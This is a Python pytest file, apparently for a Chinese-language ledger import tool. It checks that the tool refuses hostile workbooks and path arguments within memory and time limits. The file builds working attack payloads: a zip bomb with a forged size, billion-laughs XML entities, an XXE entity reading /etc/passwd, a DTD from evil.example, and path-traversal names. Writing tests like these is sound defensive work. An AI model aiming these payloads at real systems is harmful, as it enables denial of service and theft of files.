"""Files made to exhaust the machine or to lead out of the folder are refused within fixed memory and time.

Each is imported by the command itself in a process with limits, and what that process used is measured.
"""

from __future__ import annotations

import io
import os
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from broken.builders import LEDGER, SHEET, text_of, workbook
from broken.test_broken import BUREAU

#: Whatever the file, the command may hold so much memory (MiB) and use so much of a processor (seconds).
MEMORY, PROCESSOR = 1500, 60
ADDRESSES = 12 * 1024**3
SHARED = "xl/sharedStrings.xml"
SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@dataclass
class Done:
    """What a command said, and what it used."""

    status: int
    said: str
    memory: int
    processor: float


def limited(folder: Path, *arguments: object) -> Done:
    """Run the command under limits and measure it."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (ADDRESSES, ADDRESSES))
        resource.setrlimit(resource.RLIMIT_CPU, (PROCESSOR, PROCESSOR + 5))

    with (folder / "said").open("wb") as said:
        command = [sys.executable, "-m", "huibao.cli", *map(str, arguments)]
        process = subprocess.Popen(command, stdout=said, stderr=said, preexec_fn=limit)  # noqa: PLW1509
        _, status, used = os.wait4(process.pid, 0)
        process.returncode = os.waitstatus_to_exitcode(status)
    text = (folder / "said").read_text(encoding="utf-8")
    return Done(process.returncode, text, used.ru_maxrss // 1024, used.ru_utime + used.ru_stime)


def import_one(folder: Path, name: str, content: bytes) -> Done:
    (folder / "ledgers").mkdir(exist_ok=True)
    (folder / "ledgers" / name).write_bytes(content)
    (folder / "bureau.yaml").write_text(BUREAU, encoding="utf-8")
    given = ("--bureau", folder / "bureau.yaml", "--warehouse", folder / "out" / "w.duckdb")
    return limited(folder, "import", folder / "ledgers", *given)


def refused(done: Done, *words: str) -> None:
    assert done.status == 1, done.said
    assert "错误：" in done.said and "Traceback" not in done.said and "内部出错" not in done.said, done.said
    assert any(word in done.said for word in words), done.said
    assert done.memory < MEMORY and done.processor < PROCESSOR


def spoiled(**parts: Callable[[bytes], bytes] | bytes) -> bytes:
    """A sound workbook some of whose parts are changed (`sheet`, `shared`, `book`, `relations`, `types`)."""
    names = {
        "sheet": SHEET,
        "shared": SHARED,
        "book": "xl/workbook.xml",
        "relations": "xl/_rels/workbook.xml.rels",
        "types": "[Content_Types].xml",
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as old, zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new:
        changes = {names.get(key, key): change for key, change in parts.items()}
        for name in dict.fromkeys([*old.namelist(), *changes]):
            content = old.read(name) if name in old.namelist() else b""
            change = changes.get(name, content)
            new.writestr(name, change if isinstance(change, bytes) else change(content))
    return stream.getvalue()


def laughs(root: str) -> bytes:
    """Nested entities that would grow a billionfold."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">{levels}]>'.encode()


def after_declaration(head: bytes) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b"?>", b"?>" + head, 1)


def zeros(size: int) -> bytes:
    """A workbook whose sheet's entry declares a kilobyte and holds `size` bytes of blanks."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as new, zipfile.ZipFile(io.BytesIO(workbook())) as old:
        for name in old.namelist():
            if name != SHEET:
                new.writestr(name, old.read(name))
        with new.open(SHEET, "w", force_zip64=True) as sheet:
            block = b" " * 2**24
            for _ in range(size // len(block)):
                sheet.write(block)
    content = bytearray(stream.getvalue())
    entry = content.rindex(b"PK\x01\x02", 0, content.rindex(SHEET.encode()))
    content[entry + 24 : entry + 28] = (1024).to_bytes(4, "little")
    return bytes(content)


def rows(xml: str) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b"</sheetData>", xml.encode() + b"</sheetData>")


BOMBS: dict[str, tuple[Callable[[], bytes], tuple[str, ...]]] = {
    "a sheet of three gigabytes that declares a kilobyte": (lambda: zeros(3 * 1024**3), ("过大", "过长", "损坏")),
    "nested entities in the shared texts": (
        lambda: spoiled(shared=after_declaration(laughs("sst"))),
        ("实体",),
    ),
    "nested entities in the workbook": (lambda: spoiled(book=after_declaration(laughs("workbook"))), ("实体",)),
    "an entity that reads a file": (
        lambda: spoiled(sheet=after_declaration(b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>")),
        ("实体",),
    ),
    "a document type from the network": (
        lambda: spoiled(relations=after_declaration(b"<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'>")),
        ("实体",),
    ),
    "entities written in UTF-16": (
        lambda: spoiled(
            book=lambda part: (
                after_declaration(laughs("workbook"))(part)
                .decode()
                .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                .encode("utf-16")
            )
        ),
        ("编码", "损坏"),
    ),
    "a million columns": (
        lambda: spoiled(sheet=rows("<row>" + '<c t="n"><v>1</v></c>' * 1_000_000 + "</row>")),
        ("工作表",),
    ),
    "two far corners": (
        lambda: spoiled(sheet=rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        ("工作表",),
    ),
    "ten million rows": (lambda: spoiled(sheet=rows("<row><c><v>1</v></c></row>" * 10_000_000)), ("工作表", "过大")),
    "a shared text of megabytes in a hundred thousand cells": (
        lambda: spoiled(
            shared=f'<sst xmlns="{SPACE}"><si><t>{"好" * 5_000_000}</t></si></sst>'.encode(),
            sheet=rows("".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(9, 100_000))),
        ),
        ("展开",),
    ),
    "a column of separators": (lambda: text_of().encode() + b"," * 300_000_000, ("分隔符过多",)),
    "a cell of a hundred megabytes": (lambda: text_of().encode() + b'"' + b"x" * 100_000_000 + b'"', ("过长",)),
}
#: Harmless by themselves, whatever they ask for.
CLAIMS: dict[str, Callable[[], bytes]] = {
    "a dimension of the whole sheet": lambda: spoiled(
        sheet=lambda part: part.replace(b'<dimension ref="A1:C3"/>', b'<dimension ref="A1:XFD1048576"/>')
    ),
    "a count of four milliard texts": lambda: spoiled(
        shared=lambda part: part.replace(b' count="', b' count="4294967295" x="').replace(
            b' uniqueCount="', b' uniqueCount="4294967295" y="'
        )
    ),
    "elements in each other": lambda: spoiled(
        book=lambda part: part.replace(b"<sheets>", b"<x>" * 500_000 + b"</x>" * 500_000 + b"<sheets>")
    ),
}
QUICK = ("entities written in UTF-16", "an entity that reads a file")


@pytest.mark.timeout(300)
@pytest.mark.parametrize(
    "name", [name if name in QUICK else pytest.param(name, marks=pytest.mark.soak) for name in BOMBS]
)
def test_a_bomb_is_refused_within_memory_and_time(name: str, tmp_path: Path) -> None:
    make, words = BOMBS[name]
    content = make()
    text = not content.startswith(b"PK")
    refused(import_one(tmp_path, f"{LEDGER}.{'csv' if text else 'xlsx'}", content), *words)
    assert not list((tmp_path / "out").glob("*.duckdb"))


@pytest.mark.timeout(300)
@pytest.mark.parametrize(
    "name",
    [name if "dimension" in name else pytest.param(name, marks=pytest.mark.soak) for name in CLAIMS],
)
def test_what_a_workbook_claims_of_itself_costs_nothing(name: str, tmp_path: Path) -> None:
    done = import_one(tmp_path, f"{LEDGER}.xlsx", CLAIMS[name]())
    assert done.status in (0, 1) and "Traceback" not in done.said and "内部出错" not in done.said, done.said
    assert done.memory < MEMORY and done.processor < PROCESSOR


@pytest.mark.soak
@pytest.mark.timeout(300)
def test_an_edited_document_that_is_a_bomb_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "稿.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            for _ in range(60):
                part.write(b" " * 2**24)
        archive.writestr(
            "customXml/item1.xml", laughs("report") + b'<report xmlns="urn:huibao:figures:1">&a9;</report>'
        )
    refused(limited(tmp_path, "check", path), "过大", "读不出来", "无法核对")


# Ways out of the folder --------------------------------------------------------------------------------------------


def test_a_link_that_leads_out_of_the_folder_is_named(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere" / "x.csv"
    outside.parent.mkdir()
    outside.write_text(text_of(), encoding="utf-8")
    (tmp_path / "ledgers").mkdir()
    (tmp_path / "ledgers" / f"{LEDGER}_外.csv").symlink_to(outside)
    done = import_one(tmp_path, f"{LEDGER}.csv", text_of().encode())
    assert done.status == 0
    assert f"{LEDGER}_外.csv：是链接，读取的是台账文件夹之外的文件" in done.said


def test_a_link_within_the_folder_is_read(tmp_path: Path) -> None:
    (tmp_path / "ledgers").mkdir()
    (tmp_path / "ledgers" / f"{LEDGER}_又.csv").symlink_to(tmp_path / "ledgers" / f"{LEDGER}.csv")
    assert import_one(tmp_path, f"{LEDGER}.csv", text_of().encode()).status == 0


@pytest.mark.parametrize("kind", ["pipe", "device"])
def test_what_is_no_ordinary_file_is_not_waited_for(tmp_path: Path, kind: str) -> None:
    (tmp_path / "ledgers").mkdir()
    path = tmp_path / "ledgers" / f"{LEDGER}_管.csv"
    if kind == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    refused(import_one(tmp_path, f"{LEDGER}.csv", text_of().encode()), "不是普通文件")


@pytest.mark.parametrize(
    "arguments",
    [
        ("run", "../../x"),
        ("run", ".."),
        ("run", "2022/../../x"),
        ("run", "2022", "--areas", "../../../etc/passwd"),
        ("figures", "../x"),
        ("explain", "../x.y", "2022"),
        ("new-area", "../x"),
        ("new-area", "x/../../y"),
        ("new-area", "..\\x"),
    ],
)
def test_a_name_that_is_a_path_is_no_name(arguments: tuple[str, ...], tmp_path: Path) -> None:
    done = limited(tmp_path, *arguments, *(("--out", tmp_path / "a" / "b") if arguments[0] == "run" else ()))
    assert done.status == 2 and "Traceback" not in done.said, done.said
    assert list(tmp_path.rglob("*")) == [tmp_path / "said"]


@pytest.mark.parametrize("division", ["../x", "53/../..", "..", "5301\\x"])
def test_a_division_that_is_a_path_is_no_division(division: str, tmp_path: Path) -> None:
    file = tmp_path / "bureau.yaml"
    file.write_text(f"name: 甲\ncity: 乙\ndivision: '{division}'\n", encoding="utf-8")
    done = limited(tmp_path, "run", "2022", "--bureau", file, "--bureau", file, "--out", tmp_path / "out")
    assert done.status == 1 and "division" in done.said


def test_a_manifest_that_names_a_file_outside_is_not_believed(tmp_path: Path) -> None:
    import hashlib
    import json

    run = tmp_path / "2022" / "internal"
    run.mkdir(parents=True)
    outside = tmp_path / "secret"
    outside.write_text("x", encoding="utf-8")
    described = {"sha256": hashlib.sha256(b"x").hexdigest(), "bytes": 1}
    manifest = {"outputs": {"../../secret": described, str(outside): described}}
    (run / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    done = limited(tmp_path, "verify", run)
    assert done.status == 1 and "Traceback" not in done.said and "../../secret" in done.said
